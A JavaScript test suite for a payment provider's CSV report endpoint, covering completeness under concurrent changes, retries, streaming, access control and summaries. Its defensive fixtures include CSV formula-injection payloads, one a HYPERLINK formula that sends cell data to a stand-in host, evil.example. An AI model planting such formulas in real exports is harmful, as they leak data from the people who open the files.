// Reports of Compago's one-time payments: sums by state, and the table that is written while the list is read.
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { secrets } from '../support/stack.mjs';
import { reconcile } from './support/books.mjs';
import { codeOf, paymentsOf } from './support/payments.mjs';
import { openReport, parseTable, records } from './support/table.mjs';
import { until } from './support/until.mjs';
import { cashier, inWorld, operator, startWorld } from './support/world.mjs';

const CSV = '/api/operator/reports/one-time-payments.csv';
const report = (world, query = '', headers = operator) => world.send('GET', `${CSV}${query}`, { headers });
const listCalls = async (world) => (await world.callsTo('list')).length;

const hostile = [
  '=HYPERLINK("https://evil.example?x="&A1,"Haz clic")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  'Consulta "completa", con estudios',
  'Línea uno\nlínea dos\r\nlínea tres',
  "'=ya tenía apóstrofo",
  'Café 🧾 ñandú עברית',
  '\tcon tabulador',
];

test('5,000 payments are in the report once each, while 40 a second are created', () =>
  inWorld(async (world) => {
    await paymentsOf(world).seed({ count: 5_000, descriptions: hostile, days: 90 });
    const before = new Map((await world.sandbox.payments()).map((payment) => [payment.id, payment]));
    assert.equal(before.size, 5_000);
    await world.sandbox.fault('one-time-payment.list', { kind: 'delay', ms: 250 }, 100);

    let made = 0;
    let going = true;
    const making = (async () => {
      for (const since = performance.now(); going; await sleep(10)) {
        const due = Math.floor((performance.now() - since) / 25) - made;
        made += Math.max(due, 0);
        await Promise.all(Array.from({ length: due }, (_, at) => create(world, made - at)));
      }
    })();
    const answer = await report(world);
    going = false;
    await making;

    assert.equal(answer.status, 200, answer.text);
    assert.ok(made >= 80, `${made} were made meanwhile`);
    assert.match(answer.headers['content-type'], /^text\/csv; charset=utf-8$/);
    assert.match(answer.headers['content-disposition'], /^attachment; filename="one-time-payments-\d{4}-\d\d-\d\d\.csv"$/);
    assert.ok(Number(answer.headers['x-total-count']) >= 5_000);
    const rows = records(answer.text);
    const seen = new Map(rows.map((row) => [row.id, row]));
    assert.equal(seen.size, rows.length, 'none stands there twice');
    assert.ok(rows.length >= 5_000, `${rows.length} rows`);
    for (const [id, payment] of before) {
      const row = seen.get(id);
      assert.ok(row, `${id} is missing`);
      assert.deepEqual(
        [row.status, row.amount, row.currency, row.description, row.externalId, row.reference, row.payerEmail],
        [payment.status.toLowerCase(), payment.amount.toFixed(2), 'MXN', onOneLine(payment.description), payment.externalId, '', payment.billingInformation.email],
      );
      assert.deepEqual(
        [row.createdAt, row.updatedAt, row.expiresAt].map(Date.parse),
        [payment.createdAt, payment.updatedAt, payment.expiresAt].map(Date.parse),
      );
    }
    const cells = parseTable(answer.text).flat();
    assert.deepEqual(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)), [], 'no spreadsheet takes a cell for a formula');
  }));

/** Line breaks and tabs are spaces in the table. @param {string} text */
const onOneLine = (text) => text.replaceAll(/\r\n|[\t\n\r]/g, ' ');

/** As any program of the merchant's makes a payment. */
async function create(world, number) {
  const response = await fetch(`${world.sandbox.url}/api/one-time-payment`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': secrets.COMPAGO_API_KEY },
    body: JSON.stringify({
      amount: 20, currency: 'MXN', description: 'Mientras tanto', externalId: `meanwhile-${number}`,
      redirectUrl: 'https://otra.example/', homepageUrl: 'https://otra.example/',
      billingInformation: {
        email: 'luis@example.com', firstName: 'Luis', lastName: 'Mora', phoneNumber: '+525512345678',
        address: { addressLine: 'Calle 1', city: 'Puebla', state: 'PUE', zip: '72000' },
      },
    }),
  });
  assert.ok(response.ok, await response.text());
}

describe('a list that changes while it is read', { concurrency: 4 }, () => {
  for (const [listOrder, how] of [
    ['newest', 'insert'], ['oldest', 'insert'], ['updated', 'touch'], ['updated-oldest', 'touch'], ['updated', 'insert'],
  ]) {
    test(`loses nothing, sorted ${listOrder}, by ${how}`, () =>
      inWorld(async (world) => {
        await paymentsOf(world).seed({ count: 2_400, days: 90 });
        const before = (await world.sandbox.payments()).map(({ id }) => id);
        await world.sandbox.settings({ listOrder });
        await world.sandbox.fault('one-time-payment.list', { kind: 'drift', how, by: 40 }, 12);
        const answer = await report(world);
        const ids = records(answer.text).map(({ id }) => id);
        assert.equal(new Set(ids).size, ids.length);
        const seen = new Set(ids);
        assert.deepEqual(before.filter((id) => !seen.has(id)), []);
      }));
  }
});

describe('a report', () => {
  const shared = startWorld();
  after(async () => (await shared).stop());

  test('contains the requested payments, in the requested language', async () => {
    const world = await shared;
    const payments = paymentsOf(world);
    assert.deepEqual(parseTable((await report(world)).text).length, 1, 'no payments: a header');
    await payments.seed({ count: 24, days: 24, descriptions: hostile });
    const order = await world.buy();
    await world.send('GET', await world.pay(order.paymentId));
    const all = await world.sandbox.payments();

    const confirmed = await report(world, '?status=confirmed');
    const expected = all.filter(({ status }) => status === 'CONFIRMED');
    assert.equal(confirmed.headers['x-total-count'], String(expected.length));
    assert.deepEqual(records(confirmed.text).map(({ id }) => id).sort(), expected.map(({ id }) => id).sort());
    assert.deepEqual(records(confirmed.text).filter(({ reference }) => reference).map(({ id, reference }) => [id, reference]), [[order.paymentId, order.reference]]);

    assert.equal((await report(world, '?status=CONFIRMED&format=PLAIN')).text, confirmed.text);

    const [from, to] = [all[5].createdAt, all[15].createdAt];
    const between = await report(world, `?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`);
    assert.deepEqual(records(between.text).map(({ id }) => id).sort(), all.slice(5, 15).map(({ id }) => id).sort());

    const spanish = await report(world, '?format=es-MX&status=cancelled');
    assert.match(spanish.headers['content-disposition'], /filename="pagos-/);
    assert.equal(spanish.text[0], '\u{FEFF}');
    const [first] = records(spanish.text.slice(1));
    assert.match(first.Creado, /^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d$/);
    assert.deepEqual([first.Estado, first.Moneda], ['cancelado', 'MXN']);

    const head = await world.send('HEAD', CSV, { headers: operator });
    assert.deepEqual([head.status, head.headers['x-total-count']], [200, '25']);
  });

  for (const query of ['?status=PAID', '?from=ayer', '?format=xlsx', '?page=2', '?to=2026-11-01']) {
    test(`refuses ${query}`, async () => {
      assert.deepEqual(codeOf(await report(await shared, query)), [400, 'invalid-query']);
    });
  }

  test('needs the operator, and no page of another origin can read it', async () => {
    const world = await shared;
    const before = await listCalls(world);
    const session = await world.send('POST', '/api/session', { body: { token: secrets.OPERATOR_TOKEN }, headers: { origin: world.url } });
    const cookie = session.headers['set-cookie'][0].split(';')[0];
    for (const [headers, expected] of [
      [{}, [401, 'unauthenticated']],
      [cashier, [403, 'forbidden']],
      [{ cookie, origin: 'https://evil.example' }, [403, 'foreign-origin']],
      [{ cookie, origin: 'null' }, [403, 'foreign-origin']],
    ]) {
      assert.deepEqual(codeOf(await report(world, '', headers)), expected, JSON.stringify(headers));
      const summary = await world.send('GET', '/api/operator/reports/summary', { headers });
      assert.deepEqual(codeOf(summary), expected, JSON.stringify(headers));
    }
    assert.equal(await listCalls(world), before);
    assert.equal((await report(world, '', { cookie })).status, 200);
  });

  test('shows that a payment could not be read', () =>
    inWorld(async (world) => {
      const [id] = await paymentsOf(world).seed({ count: 1 });
      const item = { ...(await world.sandbox.payments())[0], id };
      const body = { count: 2, page: 1, pageSize: 500, items: [item, { id, status: 'CONFIRMED' }] };
      await world.sandbox.fault('one-time-payment.list', { kind: 'answer', status: 200, body }, 9);
      const rows = records((await report(world)).text);
      assert.deepEqual(rows.map((row) => [row.id, row.status]), [[id, item.status.toLowerCase()], ['', 'unreadable']]);
      const summary = (await world.send('GET', '/api/operator/reports/summary', { headers: operator })).body;
      assert.equal(summary.unreadable, 1);
    }));

  test('that cannot start is a problem', () =>
    inWorld(async (world) => {
      await world.sandbox.fault('one-time-payment.list', { kind: 'refuse', status: 500 });
      assert.deepEqual(codeOf(await report(world)), [503, 'provider-unavailable']);
      await world.sandbox.fault('one-time-payment.list', { kind: 'refuse', status: 401 });
      assert.deepEqual(codeOf(await report(world)), [502, 'provider-refused']);
    }));
});

describe('failures in the middle', { concurrency: 4 }, () => {
  const untroubled = (world, count) => world.sandbox.fault('one-time-payment.list', { kind: 'delay', ms: 0 }, count);

  test('that are temporary are retried', () =>
    inWorld(async (world) => {
      await paymentsOf(world).seed({ count: 1_200 });
      await untroubled(world, 1);
      await world.sandbox.fault('one-time-payment.list', { kind: 'truncate' });
      await world.sandbox.fault('one-time-payment.list', { kind: 'refuse', status: 503 });
      const answer = await report(world);
      assert.equal(records(answer.text).length, 1_200);
    }));

  for (const [name, fault] of [
    ['stays', { kind: 'refuse', status: 500 }],
    ['nobody waits for', { kind: 'refuse', status: 401 }],
  ]) {
    test(`that ${name} leaves a table that says it is not whole`, () =>
      inWorld(async (world) => {
        await paymentsOf(world).seed({ count: 1_200 });
        await untroubled(world, 2);
        await world.sandbox.fault('one-time-payment.list', fault, 20);
        const response = await openReport(world.url, '?format=es-MX');
        assert.equal(response.statusCode, 200);
        let text = '';
        try {
          for await (const chunk of response) text += chunk;
        } catch (error) {
          assert.equal(error.code, 'ECONNRESET', 'as it is where the runtime lets the client see it');
        }
        assert.ok(!text.endsWith('\n'), 'a whole table ends with a line break');
        const rows = records(`${text.slice(1)}\r\n`);
        assert.equal(rows.length, 1_001);
        assert.deepEqual(Object.values(rows.at(-1)).filter(Boolean), ['incompleto']);
        assert.match(await world.workerLog(), /"event":"report-broken-off"/);
      }));
  }

  test('reading stops when the client disconnects', () =>
    inWorld(async (world) => {
      await paymentsOf(world).seed({ count: 10_000 });
      await world.sandbox.fault('one-time-payment.list', { kind: 'delay', ms: 150 }, 100);
      const response = await openReport(world.url);
      response.resume();
      await until('the third page', async () => (await listCalls(world)) >= 3);
      response.destroy();
      const calls = await until('the reading to end', async () => {
        const before = await listCalls(world);
        await sleep(1_500);
        return (await listCalls(world)) === before && before;
      });
      assert.ok(calls <= 10, `${calls} pages of 21`);
    }));

  test('a slow client causes no reading ahead', () =>
    inWorld(async (world) => {
      await paymentsOf(world).seed({ count: 60_000, descriptions: ['x'.repeat(200)] });
      const response = await openReport(world.url);
      // What stands in the sockets between is not in the Worker's memory.
      let last = -1;
      const calls = await until('the reading to rest', async () => {
        const now = await listCalls(world);
        if (now === last) return now;
        last = now;
      }, { every: 1_500, ms: 60_000 });
      assert.ok(calls < 90, `${calls} pages of 121 were read for nobody`);
      let bytes = 0;
      for await (const chunk of response) bytes += chunk.length;
      assert.ok(bytes > 60_000 * 300, `${bytes}`);
      assert.ok((await listCalls(world)) >= 120);
    }));
});

test('the summary has Compago\'s count and the sums of what was read', () =>
  inWorld(async (world) => {
    await paymentsOf(world).seed({ count: 1_300, days: 60 });
    const summary = async () => world.send('GET', '/api/operator/reports/summary', { headers: operator });
    const { status, body } = await summary();
    assert.equal(status, 200);
    const all = await world.sandbox.payments();
    const expected = ['pending', 'confirmed', 'cancelled'].map((word) => {
      const these = all.filter(({ status }) => status === word.toUpperCase());
      const centavos = these.reduce((sum, { amount }) => sum + Math.round(amount * 100), 0);
      return { status: word, count: these.length, amount: (centavos / 100).toFixed(2), read: these.length };
    });
    assert.deepEqual(body.statuses, expected);
    assert.deepEqual([body.unreadable, body.whole, body.source], [0, true, 'list']);
    await world.sandbox.fault('one-time-payment.list', { kind: 'refuse', status: 500 });
    assert.deepEqual(codeOf(await summary()), [503, 'provider-unavailable']);
  }));

test('for a list that is too long for one request, the summary is that of the last reconciliation, and says so', () =>
  inWorld(async (world) => {
    const seeded = 24_000;
    await world.sandbox.control('POST', 'one-time-payments/seed', { count: seeded, days: 60 });
    const summary = async () => (await world.send('GET', '/api/operator/reports/summary', { headers: operator })).body;
    const read = (/** @type {any} */ { statuses }) => statuses.reduce((sum, one) => sum + one.read, 0);
    const partial = await summary();
    assert.deepEqual([partial.source, partial.whole], ['list', false], 'nobody has read all of it yet');
    assert.ok(read(partial) >= 15_000 && read(partial) < seeded, `${read(partial)}`);
    assert.ok((await listCalls(world)) < 50, 'what Cloudflare\u2019s free plan lets one request ask for');

    const { startedAt } = await reconcile(world);
    const before = await listCalls(world);
    const kept = await summary();
    assert.equal((await listCalls(world)) - before, 3, 'the counts are of now');
    assert.deepEqual([kept.source, kept.whole, kept.unreadable, kept.at], ['reconciliation', true, 0, startedAt]);
    const all = await world.sandbox.payments();
    const expected = ['pending', 'confirmed', 'cancelled'].map((word) => {
      const these = all.filter(({ status }) => status === word.toUpperCase());
      const centavos = these.reduce((sum, { amount }) => sum + Math.round(amount * 100), 0);
      return { status: word, count: these.length, amount: (centavos / 100).toFixed(2), read: these.length };
    });
    assert.deepEqual(kept.statuses, expected);
  }));
